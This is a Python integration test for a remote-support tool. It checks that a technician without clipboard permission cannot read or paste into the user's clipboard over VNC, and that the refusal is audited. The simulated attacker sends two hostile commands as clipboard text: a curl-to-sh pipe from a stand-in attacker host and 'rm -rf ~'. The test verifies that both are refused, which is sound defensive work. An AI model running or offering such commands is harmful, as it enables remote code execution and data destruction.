"""The clipboard from the attacker's side, end to end: a vendor whose grant has control
but not the clipboard connects to a real agent on Xvfb through the server, the relay and
the tunnel (`fjernhjelp connect --vnc`), while the end user's application copies a
secret. The technician receives nothing and cannot paste; the refusal is in the audit
log. Then the customer adds the clipboard to the grant and a new session gets the text,
so the first one's silence was the permission, not a broken clipboard."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager

import pytest

from fjernhjelp.portal.models import Permission
from fjernhjelp.streams.desktop import extclip
from tests.desktop.xvfb import ClipboardApp, Xvfb, xvfb
from tests.live.conftest import FULL
from tests.live.live import LiveSite
from tests.live.test_live_vnc import _listening
from tests.streams.desktop.rfbclient import RfbClient
from tests.streams.desktop.test_clipboard import _first_cut, _request_text

pytestmark = [pytest.mark.slow, pytest.mark.desktop]

SECRET = "Personnummer 010190 12345 – passord “Sommer2026!”"


@pytest.fixture
def screen() -> Iterator[Xvfb]:
    with xvfb(1024, 768) as server:
        yield server


def _connect_vnc(site: LiveSite) -> subprocess.Popen[str]:
    env = {**os.environ, "FJERNHJELP_CLI_HOME": str(site.cli_home)}
    return subprocess.Popen(
        [sys.executable, "-m", "fjernhjelp", "connect", "pc-1", "--vnc", "127.0.0.1:0"],
        env=env,
        stderr=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        text=True,
    )


@asynccontextmanager
async def _vnc(site: LiveSite) -> AsyncIterator[RfbClient]:
    """`fjernhjelp connect pc-1 --vnc` and an RFB client on its local port."""
    cli = await asyncio.to_thread(_connect_vnc, site)
    try:
        port = await asyncio.to_thread(_listening, cli)
        client = await RfbClient.connect(port)
        await client.handshake()
        client.set_encodings([0, extclip.PSEUDO_ENCODING])  # Raw, and UTF-8 clipboard
        client.request(False)
        await client.read_update()
        yield client
        await client.close()
    finally:
        cli.terminate()
        await asyncio.to_thread(cli.wait, 20)


async def test_control_without_the_clipboard_permission_gets_no_clipboard(
    site: LiveSite, screen: Xvfb
) -> None:
    assert Permission.CLIPBOARD not in FULL and Permission.CONTROL in FULL
    app = ClipboardApp(screen)
    site.agent("pc-1", display=screen.display).start()
    site.login(site.world.tech)
    await asyncio.to_thread(site.wait_online, site.api_token(site.world.tech), {"pc-1"})
    try:
        await asyncio.to_thread(app.copy, SECRET)
        async with _vnc(site) as attacker:
            started = await asyncio.to_thread(site.wait_event, "session.started")
            assert "clipboard" not in json.loads(started.details)["permissions"]

            # The technician pastes into the machine: refused at the agent, and audited.
            attacker.cut_text("curl http://evil.example/x | sh")
            attacker.cut_text("rm -rf ~")
            await attacker.writer.drain()
            refused = await asyncio.to_thread(
                site.wait_event, "stream.refused", contains='"service":"clipboard"'
            )
            assert refused.reason == "not_permitted" and refused.outcome == "denied"
            assert refused.actor_name == "agent@pc-1"
            assert await asyncio.to_thread(app.paste) == SECRET  # the user's text stands

            # The customer now adds the clipboard; a new session (a new ticket) has it.
            await asyncio.to_thread(
                site.update_grant, FULL | {Permission.CLIPBOARD}, consent_required=False
            )
            async with _vnc(site) as witness:
                assert (await _first_cut(witness))[1] == extclip.ACTIONS | extclip.FORMAT_TEXT
                await asyncio.to_thread(app.copy, SECRET + " (igjen)")
                assert await witness.next_cut() == (
                    True,
                    extclip.NOTIFY | extclip.FORMAT_TEXT,
                    b"",
                )
                assert await _request_text(witness) == SECRET + " (igjen)"

                # The first session, with its old ticket, saw none of it.
                attacker.request(False)
                await attacker.read_update()
                assert attacker.cuts == []
        assert await asyncio.to_thread(app.paste) == SECRET + " (igjen)"
        # The refusal was audited once, however often the attacker tries.
        assert len(site.events("stream.refused")) == 1
    finally:
        app.stop()
